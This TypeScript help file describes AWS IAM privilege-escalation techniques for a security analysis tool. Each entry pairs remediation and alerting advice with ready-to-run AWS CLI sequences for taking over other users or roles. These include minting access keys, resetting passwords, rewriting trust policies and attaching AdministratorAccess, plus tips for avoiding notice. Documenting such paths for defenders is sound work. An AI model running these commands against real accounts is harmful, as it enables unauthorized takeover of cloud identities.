/** Help for the AWS principal-access techniques (iam-principal.ts): taking over another user or role. */
import type { Help } from '../../../explain/help';
import { GUIDE, pf, SAR } from './help-refs';

export const PRINCIPAL_HELP: Record<string, Help> = {
  'iam-002': {
    title: 'Create an access key for another user',
    meaning: 'The source can mint a new access key pair for the target IAM user and then call AWS as that user, with all of its permissions.',
    attack:
      '`aws iam create-access-key --user-name TARGET` returns AccessKeyId and SecretAccessKey; store them with `aws configure --profile target` and confirm with `aws sts get-caller-identity --profile target`. It only works while the user holds fewer than two keys (otherwise see iam-003).',
    remediation:
      'Scope iam:CreateAccessKey to `arn:aws:iam::ACCOUNT:user/${aws:username}` so users manage only their own keys; alert on CreateAccessKey where the caller differs from requestParameters.userName; replace IAM users with roles where possible.',
    references: [pf('iam-002'), GUIDE.accessKeys, SAR.iam],
  },
  'iam-003': {
    title: 'Replace one of another user\'s two access keys',
    meaning:
      'The target user already holds the maximum of two access keys; the source can delete one and create a new one, then act as the user.',
    attack:
      '`aws iam list-access-keys --user-name TARGET`, pick the key that looks least used (`aws iam get-access-key-last-used --access-key-id AKIA...`), `aws iam delete-access-key --user-name TARGET --access-key-id AKIA...`, then `aws iam create-access-key --user-name TARGET`. Whatever used the deleted key breaks, which may give the attack away.',
    remediation:
      'Scope both iam:DeleteAccessKey and iam:CreateAccessKey to the caller\'s own user; alert on DeleteAccessKey followed by CreateAccessKey on the same user by a different principal.',
    references: [pf('iam-003'), GUIDE.accessKeys, SAR.iam],
  },
  'iam-004': {
    title: 'Give another user a console password',
    meaning: 'The target user has no console password; the source can create one and sign in to the AWS console as that user.',
    attack:
      '`aws iam create-login-profile --user-name TARGET --password \'Chosen-Passw0rd!\' --no-password-reset-required`, then sign in at https://ACCOUNT_ID.signin.aws.amazon.com/console. Service users without MFA are the usual targets.',
    remediation:
      'Remove iam:CreateLoginProfile except for the identity team; require MFA in the policies of human users (condition aws:MultiFactorAuthPresent) so a password alone does not give their rights; remove users that should never have console access.',
    references: [pf('iam-004'), GUIDE.passwords, SAR.iam],
  },
  'iam-006': {
    title: 'Reset another user\'s console password',
    meaning: 'The target user has a console password; the source can overwrite it and sign in as the user.',
    attack:
      '`aws iam update-login-profile --user-name TARGET --password \'New-Passw0rd!\' --no-password-reset-required`, then sign in to the console. If the user has an MFA device, sign-in still asks for it, unless the attacker can also remove it (iam:DeactivateMFADevice).',
    remediation:
      'Restrict iam:UpdateLoginProfile to the user\'s own ARN (`${aws:username}`) plus a help-desk role; enforce MFA on every console user; alert on UpdateLoginProfile issued by someone other than the user.',
    references: [pf('iam-006'), GUIDE.passwords, SAR.iam],
  },
  'iam-012': {
    title: 'Rewrite a role\'s trust policy, then assume it',
    meaning: 'The source can replace the target role\'s trust policy with one that admits itself, then assume the role.',
    attack:
      'Write trust.json with `{"Effect":"Allow","Principal":{"AWS":"MY_ARN"},"Action":"sts:AssumeRole"}`, run `aws iam update-assume-role-policy --role-name TARGET --policy-document file://trust.json`, then `aws sts assume-role --role-arn arn:aws:iam::ACCOUNT:role/TARGET --role-session-name s`. A same-account principal named in the trust needs no sts:AssumeRole permission of its own.',
    remediation:
      'Reserve iam:UpdateAssumeRolePolicy for the IAM deployment pipeline, via an SCP that denies it to everyone else; alert on UpdateAssumeRolePolicy; keep high-value roles in accounts where few principals have IAM write access.',
    references: [pf('iam-012'), GUIDE.principal, SAR.iam],
  },
  'iam-014': {
    title: 'Attach a policy to a role one can assume',
    meaning: 'The source can already assume the role and can also attach managed policies to it: it attaches AdministratorAccess, then assumes the strengthened role.',
    attack:
      '`aws iam attach-role-policy --role-name TARGET --policy-arn arn:aws:iam::aws:policy/AdministratorAccess`, wait for propagation, then `aws sts assume-role --role-arn arn:aws:iam::ACCOUNT:role/TARGET --role-session-name s` and export the returned credentials.',
    remediation:
      'Do not give one principal both sts:AssumeRole and iam:AttachRolePolicy on the same role; restrict attachable policies with an iam:PolicyARN condition; require a permissions boundary on roles that others may modify.',
    references: [pf('iam-014'), GUIDE.boundaries, SAR.iam],
  },
  'iam-015': {
    title: 'Attach a policy to another user, then mint its key',
    meaning: 'The source can attach managed policies to the target user and create access keys for it: it turns the user into an administrator and signs in as it.',
    attack:
      '`aws iam attach-user-policy --user-name TARGET --policy-arn arn:aws:iam::aws:policy/AdministratorAccess`, then `aws iam create-access-key --user-name TARGET` and use the key. Picking a dormant service user keeps the change unnoticed longer.',
    remediation:
      'Split the duties: no principal should hold both iam:AttachUserPolicy and iam:CreateAccessKey on other users; scope CreateAccessKey to `${aws:username}`; constrain iam:PolicyARN for attachments.',
    references: [pf('iam-015'), GUIDE.accessKeys, SAR.iam],
  },
  'iam-016': {
    title: 'Rewrite the policy of a role one can assume',
    meaning:
      'A customer-managed policy is attached to a role the source can assume, and the source can publish new versions of that policy: it makes the policy grant everything, then assumes the role.',
    attack:
      '`aws iam list-attached-role-policies --role-name TARGET` to find the customer policy, `aws iam create-policy-version --policy-arn POLICY_ARN --policy-document file://admin.json --set-as-default`, then `aws sts assume-role --role-arn ROLE_ARN --role-session-name s`.',
    remediation:
      'Scope iam:CreatePolicyVersion to policies attached only to identities the holder already controls; do not let principals that can assume a role also edit its policies; alert on CreatePolicyVersion.',
    references: [pf('iam-016'), GUIDE.versions, SAR.iam],
  },
  'iam-017': {
    title: 'Add an inline policy to a role one can assume',
    meaning: 'The source can assume the role and write inline policies onto it: it grants the role everything, then assumes it.',
    attack:
      '`aws iam put-role-policy --role-name TARGET --policy-name AdminInline --policy-document file://admin.json`, then `aws sts assume-role --role-arn arn:aws:iam::ACCOUNT:role/TARGET --role-session-name s`; the inline policy stays unless someone removes it.',
    remediation:
      'Never grant iam:PutRolePolicy on roles the holder can assume; scope it to roles the holder deploys, and require a permissions boundary on those roles; alert on PutRolePolicy.',
    references: [pf('iam-017'), GUIDE.boundaries, SAR.iam],
  },
  'iam-018': {
    title: 'Add an inline policy to another user, then mint its key',
    meaning: 'The source can write inline policies onto the target user and create keys for it: it makes the user an administrator and uses its new key.',
    attack:
      '`aws iam put-user-policy --user-name TARGET --policy-name AdminEscalation --policy-document file://admin.json`, then `aws iam create-access-key --user-name TARGET`, `aws configure --profile target` and work as the user.',
    remediation:
      'Remove iam:PutUserPolicy on other users from everyone but the IAM pipeline; scope iam:CreateAccessKey to the caller\'s own user; alert on PutUserPolicy followed by CreateAccessKey on one user.',
    references: [pf('iam-018'), GUIDE.managedVsInline, SAR.iam],
  },
  'iam-019': {
    title: 'Attach a policy to a role and rewrite its trust',
    meaning:
      'The source can attach managed policies to the role and rewrite its trust policy: it makes the role an administrator and makes it assumable by itself, with no prior right to assume it.',
    attack:
      '`aws iam attach-role-policy --role-name TARGET --policy-arn arn:aws:iam::aws:policy/AdministratorAccess`, then `aws iam update-assume-role-policy --role-name TARGET --policy-document file://trust-me.json`, then `aws sts assume-role --role-arn ROLE_ARN --role-session-name s`.',
    remediation:
      'Keep iam:UpdateAssumeRolePolicy and iam:AttachRolePolicy together only in the IAM pipeline\'s role; deny both to others with an SCP; constrain iam:PolicyARN.',
    references: [pf('iam-019'), GUIDE.principal, SAR.iam],
  },
  'iam-020': {
    title: 'Rewrite a role\'s customer policy and its trust',
    meaning:
      'The source can publish a new version of a customer-managed policy attached to the role and rewrite the role\'s trust policy: the role becomes an administrator that the source can assume.',
    attack:
      '`aws iam create-policy-version --policy-arn POLICY_ARN --policy-document file://admin.json --set-as-default`, then `aws iam update-assume-role-policy --role-name TARGET --policy-document file://trust-me.json`, then `aws sts assume-role --role-arn ROLE_ARN --role-session-name s`.',
    remediation:
      'Remove iam:UpdateAssumeRolePolicy from anyone who can edit policies attached to the role; scope iam:CreatePolicyVersion to policies attached to nothing sensitive; alert on both events.',
    references: [pf('iam-020'), GUIDE.versions, SAR.iam],
  },
  'iam-021': {
    title: 'Write an inline policy onto a role and rewrite its trust',
    meaning: 'The source can write inline policies onto the role and rewrite its trust: it grants the role everything, makes it trust the source, and assumes it.',
    attack:
      '`aws iam put-role-policy --role-name TARGET --policy-name AdminEscalation --policy-document file://admin.json`, `aws iam update-assume-role-policy --role-name TARGET --policy-document file://trust-me.json`, then `aws sts assume-role --role-arn ROLE_ARN --role-session-name s`.',
    remediation:
      'Never grant iam:PutRolePolicy together with iam:UpdateAssumeRolePolicy outside the IAM pipeline; an SCP denying UpdateAssumeRolePolicy except for that pipeline\'s role closes the whole family iam-012 and iam-019 to iam-021.',
    references: [pf('iam-021'), GUIDE.boundaries, SAR.iam],
  },
  'sts-001': {
    title: 'Assume a role',
    meaning:
      'The target role\'s trust policy admits the source and the source is allowed sts:AssumeRole on it: the source can obtain the role\'s temporary credentials and act with its permissions (across accounts too).',
    attack:
      '`aws sts assume-role --role-arn arn:aws:iam::ACCOUNT:role/TARGET --role-session-name s`, then export AccessKeyId, SecretAccessKey and SessionToken as AWS_ACCESS_KEY_ID, AWS_SECRET_ACCESS_KEY and AWS_SESSION_TOKEN. A trust that names the account root lets every principal of that account with sts:AssumeRole do it.',
    remediation:
      'Name specific principal ARNs in trust policies instead of the account root; add conditions (aws:PrincipalArn, aws:MultiFactorAuthPresent, sts:ExternalId for third parties); scope sts:AssumeRole in identity policies to the roles each principal needs.',
    references: [pf('sts-001'), GUIDE.principal, SAR.sts],
  },
};
